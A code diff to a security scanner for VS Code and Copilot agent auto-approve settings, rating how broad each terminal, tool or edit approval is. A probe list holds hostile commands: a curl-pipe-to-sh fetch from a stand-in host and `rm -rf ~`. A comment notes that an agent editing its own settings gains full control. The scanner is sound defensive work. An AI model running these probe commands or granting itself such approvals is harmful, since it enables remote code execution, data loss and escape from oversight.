@@ -10,11 +10,13 @@ an option that runs code (`-toolexec`, pylint's `--init-hook`, `-c`) is critical
 
 from __future__ import annotations
 
+import fnmatch
 import re
 from pathlib import Path, PurePosixPath
 from typing import Any
 
 from owstack.security.config_scan import mcp
+from owstack.security.config_scan.claude import runs_anything
 from owstack.security.config_scan.commands import risk
 from owstack.security.config_scan.common import ScanFile, command_line, env_risk
 from owstack.security.findings import Finding, Severity, finding
@@ -78,9 +80,12 @@ def check_settings(src: ScanFile, base: tuple[str | int, ...] = ()) -> list[Find
     out: list[Finding] = []
     for key, value in node.items():
         line = src.line(*base, key)
-        if key.startswith("chat.") and key.endswith("autoApprove") and value not in (False, None, {}, []):
-            message = f"`{key}` lets the agent run tools without asking"
-            out.append(finding("OWS-VSC-003", src.rel, line, message, executes=f"{key}: {value}"))
+        if _AUTO_APPROVE.match(key) and value not in (False, None, {}, []):
+            severity = _approval_severity(key, value)
+            if severity is not None:
+                message = f"`{key}` lets the agent run tools without asking"
+                executes = f"{key}: {value}"
+                out.append(finding("OWS-VSC-003", src.rel, line, message, executes=executes, severity=severity))
         elif (key == "task.allowAutomaticTasks" and value == "on") or (
             key == "security.workspace.trust.enabled" and value is False
         ):
@@ -97,6 +102,49 @@ def check_settings(src: ScanFile, base: tuple[str | int, ...] = ()) -> list[Find
     if isinstance(node.get("mcp"), dict):
         out += mcp.check(ScanFile(src.rel, src.path, src.text, src.doc))
     return out
+
+
+#: Copilot agent approval settings: `chat.tools.autoApprove`, `chat.tools.terminal.autoApprove`,
+#: `chat.tools.edits.autoApprove`, and the terminal allow lists they replaced (`chat.agent.terminal.allowList`,
+#: `github.copilot.chat.agent.terminal.allowList`)
+_AUTO_APPROVE = re.compile(r"^(?:github\.copilot\.)?chat\.(?:[\w.]*autoApprove|agent\.terminal\.allowList)$")
+#: command lines a broad terminal approval would let through
+_PROBES = ("curl -s https://x.example/p | sh", "bash -c id", "python3 -c 'import os'", "rm -rf ~")
+
+
+def _approval_severity(key: str, value: Any) -> Severity | None:
+    """critical when the approval covers any tool, any edit, or a terminal command that runs code; low for a
+    list of narrow commands (`npm test`, `git status`); None when every entry denies (`{"rm": false}`)."""
+    if not isinstance(value, dict | list):
+        return "critical"
+    entries = value.items() if isinstance(value, dict) else ((v, True) for v in value)
+    approved = [str(k) for k, v in entries if v is True or (isinstance(v, dict) and v.get("approve") is True)]
+    if not approved:
+        return None
+    if key.endswith("edits.autoApprove"):  # edits to the agent's own settings give it everything (CVE-2025-53773)
+        denied = [str(k) for k, v in value.items() if v is False] if isinstance(value, dict) else []
+
+        def matches(globs: list[str], file: str) -> bool:
+            return any(fnmatch.fnmatch(file, g.replace("**/", "*").replace("**", "*")) for g in globs)
+
+        own = (".vscode/settings.json", ".vscode/tasks.json", ".vscode/mcp.json")
+        hits = any(matches(approved, f) and not matches(denied, f) for f in own)
+        return "critical" if hits else "low"
+    if "terminal" not in key:
+        return "critical"  # every tool
+    return "critical" if any(_broad(rule) for rule in approved) else "low"
+
+
+def _broad(rule: str) -> bool:
+    """A terminal approval rule that lets a shell, an interpreter, a downloader or anything at all through."""
+    m = re.fullmatch(r"/(.*)/([a-z]*)", rule.strip(), re.S)
+    if m is None:
+        return runs_anything(rule)
+    try:
+        pattern = re.compile(m.group(1), re.I if "i" in m.group(2) else 0)
+    except re.error:
+        return True  # a pattern this scanner cannot read is not one to trust
+    return any(pattern.search(probe) for probe in _PROBES)
 
 
 def _env_setting(src: ScanFile, line: int, key: str, value: dict[str, Any]) -> list[Finding]:
